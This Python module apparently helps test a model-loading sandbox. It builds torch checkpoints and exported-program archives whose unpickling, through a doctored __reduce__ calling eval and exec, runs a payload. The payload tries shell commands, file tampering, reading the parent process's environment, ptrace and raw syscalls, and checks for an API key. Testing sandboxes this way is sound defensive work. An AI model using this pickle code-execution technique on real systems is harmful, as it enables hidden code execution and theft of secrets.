"""Files that try to do harm when they are loaded, and tell how far they came."""

import pickle
import zipfile
from pathlib import Path
from typing import Any

import torch

ATTEMPTS = """
import ctypes, os, resource, socket, subprocess, sys, threading
import torch

flag, victim, port = {flag!r}, {victim!r}, {port}
libc = ctypes.CDLL(None, use_errno=True)

def succeeds(work):
    try:
        return float(bool(work()))
    except BaseException:
        return 0.0

def wrote(path):
    with open(path, "w") as file:
        return file.write("here")

tries = dict(
    shell=lambda: os.system("touch " + flag) == 0,
    program=lambda: subprocess.run(["/bin/touch", flag]).returncode == 0,
    execute=lambda: os.execv("/bin/touch", ["touch", flag]),
    fork=lambda: os.fork() + 1,
    create=lambda: wrote(flag),
    overwrite=lambda: wrote(victim),
    read=lambda: open(victim).read(),
    read_parent=lambda: open("/proc/%d/environ" % os.getppid(), "rb").read(),
    list_processes=lambda: os.listdir("/proc"),
    command_line=lambda: open("/proc/%d/cmdline" % os.getppid(), "rb").read(),
    source_tree=lambda: open(sys.modules["workers"].__path__[0] + "/../pyproject.toml").read(),
    append=lambda: os.open(victim, os.O_WRONLY | os.O_APPEND),
    remove=lambda: os.unlink(victim) is None,
    rename=lambda: os.rename(victim, flag) is None,
    truncate=lambda: os.truncate(victim, 0) is None,
    mode=lambda: os.chmod(victim, 0o777) is None,
    folder=lambda: os.mkdir(flag) is None,
    link=lambda: os.symlink(victim, flag) is None,
    connect=lambda: socket.create_connection(("127.0.0.1", port), 2),
    listen=lambda: socket.socket(socket.AF_UNIX),
    signal=lambda: os.kill(os.getppid(), 0) is None,
    limits=lambda: resource.setrlimit(resource.RLIMIT_CPU, (10**6, 10**6)) is None,
    raw_open=lambda: libc.syscall(257, -100, flag.encode(), os.O_CREAT | os.O_RDWR, 0o600) >= 0,
    raw_openat2=lambda: libc.syscall(437, -100, flag.encode(), bytes(24), 24) >= 0,
    raw_creat=lambda: libc.syscall(85, flag.encode(), 0o600) >= 0,
    raw_ring=lambda: libc.syscall(425, 8, bytes(120)) >= 0,
    raw_memfd=lambda: libc.syscall(319, b"x", 0) >= 0,
    raw_ptrace=lambda: libc.syscall(101, 16, os.getppid(), 0, 0) == 0,
    raw_unshare=lambda: libc.syscall(272, 0x10000000) == 0,
    raw_x32=lambda: libc.syscall(0x40000000 + 257, -100, flag.encode(), 0o102, 0o600) >= 0,
    secret=lambda: "WHYLIGHT_API_KEY" in os.environ,
)
told = dict((name, succeeds(work)) for name, work in tries.items())
if os.environ.get("TELL"):
    os.write(2, repr([name for name, done in told.items() if done]).encode() + b"\\\\n")
found = dict((name, torch.tensor([done])) for name, done in told.items())
found["thread"] = torch.tensor([1.0 if threading.Thread(target=int).start() is None else 0.0])
"""


class Doctored:
    """An object whose unpickling runs a program of ours; it becomes what that found."""

    def __init__(self, program: str) -> None:
        self.program = program

    def __reduce__(self) -> Any:
        # a lambda by eval, because exec gives nothing back
        source = "(lambda names: (exec(names['program'], names), names['found'])[1])"
        return eval, (f"{source}({{'program': {self.program!r}}})",)


def attempts(flag: Path, victim: Path, port: int) -> str:
    """Return a program that tries everything and leaves what succeeded in ``found``."""
    return ATTEMPTS.format(flag=str(flag), victim=str(victim), port=port).replace("\\\\n", "\\n")


def checkpoint(path: Path, program: str) -> Path:
    """Write a checkpoint whose unpickling runs `program`."""
    torch.save(Doctored(program), path, pickle_module=pickle)
    return path


def program(path: Path, sound: Path, payload: str) -> Path:
    """Write the exported program `sound` with sample inputs whose unpickling runs `payload`."""
    with zipfile.ZipFile(sound) as given, zipfile.ZipFile(path, "w") as archive:
        for entry in given.infolist():
            data = given.read(entry)
            if entry.filename.endswith("sample_inputs/model.pt"):
                data = checkpoint(path.with_suffix(".inputs"), payload).read_bytes()
            archive.writestr(entry, data)
    return path
